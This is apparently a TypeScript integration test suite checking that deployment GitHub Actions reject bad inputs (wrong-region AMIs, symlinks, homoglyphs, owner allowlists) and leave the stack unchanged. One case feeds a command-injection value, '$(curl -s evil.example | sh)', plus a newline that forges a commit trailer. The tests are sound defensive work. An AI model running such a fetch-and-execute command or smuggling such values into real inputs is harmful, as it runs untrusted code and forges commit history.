/**
 * Bad-inputs catalogue, integration suite (issue 6; rows in test/unit/reliability/catalogue.ts,
 * table in docs/reliability.md): a handful of bad inputs through the REAL bundles against the app
 * stack in moto. Each: exit code 1, an error annotation that says what, where and how to fix, and
 * the stack exactly as it was (status, last update, parameters, change sets).
 */
import { readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { RegisterImageCommand, DescribeImagesCommand } from '@aws-sdk/client-ec2';

import { parse } from 'yaml';

import { createAwsClients } from '../../../actions/lib/aws/clients';
import { REPO_ROOT } from '../../../local/env';
import { runBundledAction, type ActionRun } from '../../../local/run-action';
import { diffSnapshots, snapshotStack } from '../../../local/stacks';
import { BAD_INPUTS, casesOf, INTEGRATION_ROWS_ELSEWHERE } from '../../unit/reliability/catalogue';
import { createGitopsRepo, DEV_FILE, devParameters, type GitopsRepo } from '../../unit/reliability/support/repo';
import { deployAppFoundation, DEV_AMI_OWNERS, localBaseAmi, localClients, localEnv, useLocalAws } from '../harness';

useLocalAws();

const STACK = 'patch-dev-app';
let base: string;
let repo: GitopsRepo;

const step = (action: string, inputs: Record<string, string>) =>
  runBundledAction(action, inputs, { ...localEnv(), GITHUB_WORKSPACE: repo.workspace.dir, GITHUB_TOKEN: 'local-token' }, { timeoutMs: 90_000 });
const updateAppStack = (inputs: Record<string, string>) => step('update-app-stack', { 'stack-name': STACK, 'parameters-file': DEV_FILE, template: 'templates/app.yaml', ...inputs });
const errorOf = (run: ActionRun) => run.annotations.find((a) => a.level === 'error');

/** Canonical's account. moto ships public Ubuntu AMIs of it, as AWS does: anyone can name one. */
const CANONICAL = '099720109477';
async function canonicalAmi(): Promise<string> {
  const { Images = [] } = await localClients().ec2.send(new DescribeImagesCommand({ Owners: [CANONICAL] }));
  const id = Images.find((i) => i.OwnerId === CANONICAL)?.ImageId;
  if (!id) throw new Error(`moto ships no AMI of ${CANONICAL} any more: pick another public AMI of an account not on the allowlist`);
  return id;
}

/** An Amazon Linux AMI moto ships (137112412989's) other than the one the stack runs. */
async function anotherAmazonAmi(): Promise<string> {
  const { Images = [] } = await localClients().ec2.send(new DescribeImagesCommand({ Owners: [AMAZON] }));
  const id = Images.find((i) => i.OwnerId === AMAZON && i.ImageId !== base)?.ImageId;
  if (!id) throw new Error(`moto ships no second AMI of ${AMAZON} any more: pick another public AMI of an account not on the allowlist`);
  return id;
}
const AMAZON = '137112412989';

beforeAll(async () => {
  base = await localBaseAmi();
  await deployAppFoundation({ ami: base });
});
beforeEach(() => {
  repo = createGitopsRepo(null, base);
});
afterEach(() => repo.remove());

const IMPLEMENTED = new Set<string>();
/** One catalogue row: runs `act`, then checks exit 1 and that the stack did not change at all. */
function badInput(id: string, act: () => Promise<ActionRun>, check: (run: ActionRun) => void) {
  const row = BAD_INPUTS.find((c) => c.id === id);
  if (!row) throw new Error(`No bad input ${id} in the catalogue`);
  IMPLEMENTED.add(id);
  it(`${row.id} ${row.name}`, async () => {
    const before = await snapshotStack(localClients().cloudFormation, STACK);
    const run = await act();
    expect(run.exitCode).toBe(1);
    check(run);
    expect(diffSnapshots(before, await snapshotStack(localClients().cloudFormation, STACK))).toEqual([]);
  });
}

describe('bad inputs (integration): the bundles against moto, exit 1, stack unchanged', () => {
  badInput(
    'B12',
    async () => {
      // A real AMI, in eu-west-1: exactly what copying an ami-id from another region's build gives.
      const abroad = createAwsClients({ region: 'eu-west-1' }).ec2;
      const { ImageId } = await abroad.send(new RegisterImageCommand({ Name: `patched-eu-${Date.now()}`, RootDeviceName: '/dev/xvda', Architecture: 'x86_64', VirtualizationType: 'hvm' }));
      expect((await abroad.send(new DescribeImagesCommand({ ImageIds: [ImageId!] }))).Images).toHaveLength(1);
      writeFileSync(join(repo.workspace.dir, DEV_FILE), devParameters(ImageId!));
      return updateAppStack({});
    },
    (run) => {
      const error = errorOf(run);
      expect(error?.message).toMatch(
        /^AMI check failed for parameters\/dev\.json: line 4: AmazonMachineImage = "ami-[0-9a-f]+" does not exist in us-east-1 \(or is not shared with this account\)\. Use the ami-id output of build-ami for us-east-1; an AMI ID is valid in one region only\. Nothing was changed\.$/,
      );
      expect(error?.properties).toMatchObject({ file: DEV_FILE, line: '4' });
    },
  );

  badInput(
    'B33',
    () => updateAppStack({ mode: 'destroy' }),
    (run) => {
      expect(errorOf(run)?.message).toBe(
        `Invalid action inputs: input "mode" = "destroy": must be deploy (create and execute a change set) or preview (create, show, delete). Fix them in the workflow step's "with:" block.`,
      );
    },
  );

  badInput(
    'B34',
    () => updateAppStack({ region: 'us-east-1a' }),
    (run) => {
      expect(errorOf(run)?.message).toBe('Region "us-east-1a" from input region is not an AWS region name. Use a name like us-east-1 or eu-west-2.');
    },
  );

  badInput(
    'B35',
    () => step('gitops', { command: 'resolve-failback', environment: 'dev', 'target-ami': '$(curl -s evil.example | sh)', reason: 'slow\nCo-authored-by: mallory <m@evil.example>' }),
    (run) => {
      expect(errorOf(run)?.message).toBe(
        'Failback request rejected for dev: target-ami "$(curl -s evil.example | sh)" is not an AMI ID (ami- and 8 or 17 lowercase hex digits, e.g. ami-0123456789abcdef0); ' +
          'leave it empty to use the AMI before the current one; reason contains a line break, control or invisible formatting character at character 5 (U+000A LINE FEED (a line break)); ' +
          'write it on one line of visible text (it goes into a commit message and a pull request, where such a character can forge a trailer or show text in another order). Fix the inputs and run the workflow again.',
      );
      expect(repo.workspace.git('status', '--porcelain')).toBe('');
      expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
    },
  );

  badInput(
    'B72',
    async () => {
      // The parameters file as a link to a copy beside it: the shape a "share one file" change takes.
      renameSync(join(repo.workspace.dir, DEV_FILE), join(repo.workspace.dir, 'parameters/shared.json'));
      symlinkSync('shared.json', join(repo.workspace.dir, DEV_FILE));
      return updateAppStack({});
    },
    (run) => {
      const error = errorOf(run);
      expect(error?.message).toBe(
        `Parameters file invalid for ${DEV_FILE}: it is a symbolic link (to "shared.json"); links are refused because git stores a link, not the file, and a link can make one environment read another's. ` +
          'Replace the link with a copy of the file itself (git rm the link, add the file), or point at the real file.',
      );
      expect(error?.properties).toMatchObject({ file: DEV_FILE, line: '1' });
    },
  );

  badInput(
    'B73',
    () => step('gitops', { command: 'resolve-failback', environment: 'dev', 'target-ami': 'ami-0123456789\u0430bcdef0', reason: 'p99 doubled' }),
    (run) => {
      expect(errorOf(run)?.message).toBe(
        'Failback request rejected for dev: target-ami "ami-0123456789\\u0430bcdef0" (character 15 is U+0430 CYRILLIC SMALL LETTER A, not ASCII) is not an AMI ID ' +
          '(ami- and 8 or 17 lowercase hex digits, e.g. ami-0123456789abcdef0); leave it empty to use the AMI before the current one. Fix the inputs and run the workflow again.',
      );
      expect(repo.workspace.git('status', '--porcelain')).toBe('');
      expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
    },
  );

  badInput(
    'B79',
    async () => {
      writeFileSync(join(repo.workspace.dir, DEV_FILE), devParameters(await canonicalAmi()));
      return updateAppStack({ 'ami-owners': DEV_AMI_OWNERS });
    },
    (run) => {
      const error = errorOf(run);
      expect(error?.message).toMatch(
        new RegExp(
          `^AMI check failed for parameters/dev\\.json: line 4: AmazonMachineImage = "ami-[0-9a-f]+" is owned by account ${CANONICAL}, which is not on the AMI owner allowlist \\(self \\(123456789012\\), 137112412989; the ami-owners input\\)\\. ` +
            `Use an AMI your own pipeline built, or, if you trust every AMI account ${CANONICAL} publishes, add "${CANONICAL}" to the environment's amiOwners in parameters/environments\\.json \\(the workflows pass it as the ami-owners input\\)\\. Nothing was changed\\.$`,
        ),
      );
      expect(error?.properties).toMatchObject({ file: DEV_FILE, line: '4' });
    },
  );

  badInput(
    'B84',
    async () => {
      // dev's images are built in a central account (a stand-in: Canonical's, whose AMIs moto ships),
      // and its wiring leaves amiOwners to the default: self and that account.
      const wiringFile = join(repo.workspace.dir, 'parameters/environments.json');
      const wiring = JSON.parse(readFileSync(wiringFile, 'utf8')) as { environments: Record<string, Record<string, unknown>> };
      delete wiring.environments.dev.amiOwners;
      wiring.environments.dev.imagePipelineAccount = CANONICAL;
      writeFileSync(wiringFile, `${JSON.stringify(wiring, null, 2)}\n`);
      const resolved = await step('gitops', { command: 'resolve-environment', environment: 'dev' });
      expect(resolved.exitCode).toBe(0);
      const owners = resolved.outputs['ami-owners'];
      expect(owners).toBe(`self,${CANONICAL}`);
      // What the pipeline account built passes the owner check (a preview makes the change set and deletes it)…
      writeFileSync(join(repo.workspace.dir, DEV_FILE), devParameters(await canonicalAmi()));
      const preview = await updateAppStack({ mode: 'preview', 'ami-owners': owners });
      expect(preview.annotations.filter((a) => a.level === 'error')).toEqual([]);
      expect(preview.exitCode).toBe(0);
      // …and an AMI no account of dev's built is refused, Amazon's own included, once the wiring no longer lists it.
      writeFileSync(join(repo.workspace.dir, DEV_FILE), devParameters(await anotherAmazonAmi()));
      return updateAppStack({ 'ami-owners': owners });
    },
    (run) => {
      const error = errorOf(run);
      expect(error?.message).toMatch(
        new RegExp(
          `^AMI check failed for parameters/dev\\.json: line 4: AmazonMachineImage = "ami-[0-9a-f]+" is owned by account ${AMAZON}, which is not on the AMI owner allowlist \\(self \\(123456789012\\), ${CANONICAL}; the ami-owners input\\)\\. `,
        ),
      );
      expect(error?.properties).toMatchObject({ file: DEV_FILE, line: '4' });
    },
  );

  badInput(
    'B80',
    async () => step('gitops', { command: 'check-image', environment: 'dev', 'ami-id': await canonicalAmi() }),
    (run) => {
      expect(errorOf(run)?.message).toMatch(
        new RegExp(
          `^Failback target (ami-[0-9a-f]+) is not usable in us-east-1: AMI \\1 is owned by account ${CANONICAL}, which is not on the AMI owner allowlist \\(self \\(123456789012\\), 137112412989; environments\\.dev\\.amiOwners in parameters/environments\\.json\\)\\. ` +
            `.*add "${CANONICAL}" to environments\\.dev\\.amiOwners in parameters/environments\\.json\\. Nothing was changed\\.$`,
        ),
      );
      expect(repo.workspace.git('status', '--porcelain')).toBe('');
      expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
    },
  );

  // Outputs on every path: a later step reads "" for what the failed step could not know, never a
  // missing output (GitHub gives both as "", but only a set output tells a person the action ran to its end).
  const everyOutputEmpty = (action: string) => (run: ActionRun) => {
    const declared = Object.keys((parse(readFileSync(join(REPO_ROOT, 'actions', action, 'action.yml'), 'utf8')) as { outputs: Record<string, unknown> }).outputs);
    expect(run.outputs).toEqual(Object.fromEntries(declared.map((name) => [name, ''])));
  };
  // One number grammar on the bundles: update-app-stack says what verify-alb says for its own inputs (B140, B141).
  badInput(
    'B145',
    () => updateAppStack({ 'verify-seconds': '1e3', 'max-error-rate': '.5e0' }),
    (run) => {
      expect(errorOf(run)?.message).toBe(
        'Invalid action inputs: input "verify-seconds" = "1e3": must be a whole number of seconds (decimal digits only); ' +
          'input "max-error-rate" = ".5e0": must be a number between 0 and 1, written with digits and a decimal point (e.g. 0.01). Fix them in the workflow step\'s "with:" block.',
      );
    },
  );

  badInput('B36', () => updateAppStack({ mode: 'destroy' }), everyOutputEmpty('update-app-stack'));
  badInput('B37', () => step('build-ami', { 'pipeline-arn': 'arn:aws:imagebuilder:us-east-1:123456789012:image-pipeline/patch-dev-app', 'timeout-minutes': '0' }), everyOutputEmpty('build-ami'));
  badInput('B38', () => step('verify-alb', { 'stack-name': STACK, 'expected-ami-id': 'ami-nope' }), everyOutputEmpty('verify-alb'));

  it('implements every integration row of the catalogue, and only those', () => {
    expect([...IMPLEMENTED].sort()).toEqual(casesOf(BAD_INPUTS, 'integration').filter((c) => !Object.values(INTEGRATION_ROWS_ELSEWHERE).flat().includes(c.id)).map((c) => c.id).sort());
  });
});
